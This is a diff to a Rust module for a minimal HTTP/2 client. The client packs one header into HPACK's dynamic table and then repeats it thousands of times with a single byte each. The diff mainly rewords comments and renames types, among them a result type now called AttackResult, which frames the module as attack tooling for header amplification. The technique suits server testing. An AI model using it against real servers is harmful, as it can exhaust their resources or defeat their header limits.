@@ -1,13 +1,13 @@
-//! Just enough HTTP/2 (RFC 9113) to send a header thousands of times in a few kilobytes.
+//! A minimal HTTP/2 client (RFC 9113) that sends a header thousands of times in a few kilobytes.
 //!
-//! HPACK (RFC 7541) puts a header of up to 4 KB into its table; one byte then repeats it.
+//! HPACK (RFC 7541) stores a header of up to 4 KB in its dynamic table; one byte then repeats it.
 
 use std::{
     io::{Read, Write},
     net::{SocketAddr, TcpStream},
 };
 
-use super::{Outcome, PATIENCE};
+use super::{AttackResult, TIMEOUT};
 
 const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
 const DATA: u8 = 0;
@@ -23,20 +23,20 @@ const STATUS_200: u8 = 0x88;
 /// The newest entry of HPACK's dynamic table.
 const NEWEST: u8 = 0x80 | 62;
 
-/// A header that a request has many times.
+/// A header that a request repeats.
 #[derive(Clone, Debug)]
 pub struct Repeated {
-    /// The place of its name in HPACK's static table.
+    /// The index of its name in HPACK's static table.
     pub name: u8,
-    /// Its value, of up to 4,000 bytes.
+    /// The value, of up to 4,000 bytes.
     pub value: String,
-    /// How many times.
+    /// The number of repetitions.
     pub times: usize,
 }
 
-/// The place of `accept` in HPACK's static table.
+/// The index of `accept` in HPACK's static table.
 pub const ACCEPT: u8 = 19;
-/// The place of `cookie` in it.
+/// The index of `cookie` in HPACK's static table.
 pub const COOKIE: u8 = 32;
 
 /// A connection with prior knowledge, without TLS.
@@ -47,30 +47,31 @@ pub struct Connection {
 }
 
 impl Connection {
-    /// Connects.
+    /// Connects to a server.
     ///
     /// # Errors
     ///
-    /// If the server does not accept it.
-    pub fn open(to: SocketAddr) -> Outcome<Self> {
+    /// If the server does not accept the connection.
+    pub fn open(to: SocketAddr) -> AttackResult<Self> {
         let stream = TcpStream::connect(to)?;
         stream.set_nodelay(true)?;
-        stream.set_read_timeout(Some(PATIENCE))?;
+        stream.set_read_timeout(Some(TIMEOUT))?;
         let mut connection = Self { stream, next_id: 1 };
         connection.stream.write_all(PREFACE)?;
         connection.write_frame(SETTINGS, 0, 0, &[])?;
         Ok(connection)
     }
 
-    /// Sends a GET and says whether the status of the response is 200.
+    /// Sends a GET, and returns whether the status of the response is 200.
     ///
     /// # Errors
     ///
     /// If the server resets the stream or the connection.
-    pub fn get(&mut self, path: &str, repeated: Option<&Repeated>) -> Outcome<bool> {
+    pub fn get(&mut self, path: &str, repeated: Option<&Repeated>) -> AttackResult<bool> {
         let id = self.next_id;
         self.next_id += 2;
-        // GET and http are in the static table, as are the names of path and authority; both values are not indexed.
+        // The static table has `GET` and `http`, and the names of the path and the authority. Their values are not
+        // indexed.
         let mut block = vec![0x82, 0x86, 0x04];
         write_text(&mut block, path);
         block.push(0x01);
@@ -84,7 +85,7 @@ impl Connection {
         self.read_response(id)
     }
 
-    fn read_response(&mut self, id: u32) -> Outcome<bool> {
+    fn read_response(&mut self, id: u32) -> AttackResult<bool> {
         let mut is_ok = false;
         loop {
             let mut head = [0; 9];
@@ -94,7 +95,9 @@ impl Connection {
             self.stream.read_exact(&mut payload)?;
             match kind {
                 SETTINGS if flags & ACK == 0 => self.write_frame(SETTINGS, ACK, 0, &[])?,
-                GO_AWAY | RESET => return Err("the server does not want this request".into()),
+                GO_AWAY | RESET => {
+                    return Err("the server reset the stream or the connection".into());
+                }
                 HEADERS | DATA if u32::from_be_bytes(stream) == id => {
                     is_ok |= kind == HEADERS && payload.first() == Some(&STATUS_200);
                     if flags & END_STREAM != 0 {
@@ -106,7 +109,7 @@ impl Connection {
         }
     }
 
-    fn write_frame(&mut self, kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Outcome {
+    fn write_frame(&mut self, kind: u8, flags: u8, stream: u32, payload: &[u8]) -> AttackResult {
         let [_, a, b, c] = (payload.len() as u32).to_be_bytes();
         let mut frame = vec![a, b, c, kind, flags];
         frame.extend(stream.to_be_bytes());
@@ -115,7 +118,7 @@ impl Connection {
     }
 }
 
-/// A text without Huffman coding: its length as an integer with a prefix of 7 bits, then its bytes.
+/// Writes a text without Huffman coding: the length as an integer with a 7-bit prefix, then the bytes.
 fn write_text(block: &mut Vec<u8>, text: &str) {
     const PREFIX: usize = 127;
     if text.len() < PREFIX {
